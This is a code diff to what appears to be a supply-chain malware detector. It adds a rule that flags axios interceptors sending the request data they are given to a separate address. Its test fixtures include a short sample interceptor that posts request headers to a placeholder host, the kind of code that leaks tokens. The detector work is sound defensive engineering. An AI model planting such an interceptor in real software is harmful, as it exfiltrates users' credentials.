@@ -18,7 +18,13 @@ const GOES_ON =
 const BODY = 900;
 const BODY_IN_BUNDLE = 300;
 const MOST_TRIES = 60;
+/** What everybody sends or gets through axios passes through here. */
+const INTERCEPTS =
+  /\baxios(?:\.default)?\.interceptors\.(?:request|response)\.use\([ \t\n]{0,12}(?:async[ \t]{1,3})?(?:function[ \t]{0,3}\w{0,30}[ \t]{0,3})?\(?[ \t]{0,3}([A-Za-z_$][\w$]{0,40})[ \t]{0,3}(?:\)|=>)/g;
+/** Characters behind the beginning of a request in which what it sends stands. */
+const SENT = 240;
 const LITERALS = [
+  "axios.interceptors",
   ".fetch",
   ".prototype.",
   "._load",
@@ -50,7 +56,7 @@ Monitoring libraries replace the same functions and send to the address that the
   literals: LITERALS,
   *detect(tree) {
     for (const file of scriptsWith(tree, LITERALS)) {
-      const found = interceptionIn(file) ?? redirectionIn(file, tree.manifest?.name ?? "");
+      const found = interceptionIn(file) ?? interceptorIn(file) ?? redirectionIn(file, tree.manifest?.name ?? "");
       if (found !== undefined)
         yield sight(file, found.offset, `replaces ${found.what} and ${found.does}`, { share: found.share });
     }
@@ -77,6 +83,13 @@ Monitoring libraries replace the same functions and send to the address that the
         ecosystem: "npm",
         files: {
           "a.js":
+            "axios.interceptors.response.use((r) => r, async (e) => {\n  const { data } = await axios.post('https://example.invalid/token', { refresh });\n  return axios({ ...e.config, token: data.token });\n});\n",
+        },
+      },
+      {
+        ecosystem: "npm",
+        files: {
+          "a.js":
             "const f = globalThis.fetch;\nglobalThis.fetch = function (u, o) {\n  report(options.endpoint, u);\n  return f(u, o);\n};\n",
         },
       },
@@ -89,6 +102,13 @@ Monitoring libraries replace the same functions and send to the address that the
       },
     ],
     evasions: [
+      {
+        ecosystem: "npm",
+        files: {
+          "a.js":
+            "const axios = require('axios');\naxios.interceptors.request.use((c) => {\n  fetch('https://example.invalid', { method: 'POST', body: JSON.stringify(c.headers) });\n  return c;\n});\n",
+        },
+      },
       {
         ecosystem: "npm",
         files: {
@@ -149,6 +169,24 @@ function interceptionIn(file: SourceFile) {
     const what = /^[^=(]{1,200}(?==)/.exec(match[0])?.[0].trim() ?? match[0].slice(0, 60);
     if (!isKept(text.slice(0, match.index), match[0], what) || inComment(file, match.index)) continue;
     return { offset: match.index, what, does: `sends by ${sends.slice(0, 100)}`, share: 1 };
+  }
+  return undefined;
+}
+
+/** An interceptor of all requests that sends what it is given to an address of its own: tokens are renewed there, with what the program has. */
+function interceptorIn(file: SourceFile) {
+  const { text } = file;
+  for (const match of text.matchAll(INTERCEPTS).take(MOST_TRIES)) {
+    const body = text.slice(match.index + match[0].length, match.index + (isBundle(file) ? BODY_IN_BUNDLE : BODY));
+    const at = SENDS.exec(body)?.index ?? -1;
+    const given = new RegExp(`(?<![\\w$.])${match[1]!.replaceAll("$", "\\$")}\\b(?!\\.(?:url|method)\\b)`);
+    if (
+      at === -1 ||
+      !given.test(body.slice(at, at + SENT).split(/;|\breturn\b/, 1)[0]!) ||
+      inComment(file, match.index)
+    )
+      continue;
+    return { offset: match.index, what: "what axios sends", does: `sends it by ${body.slice(at, at + 100)}`, share: 1 };
   }
   return undefined;
 }
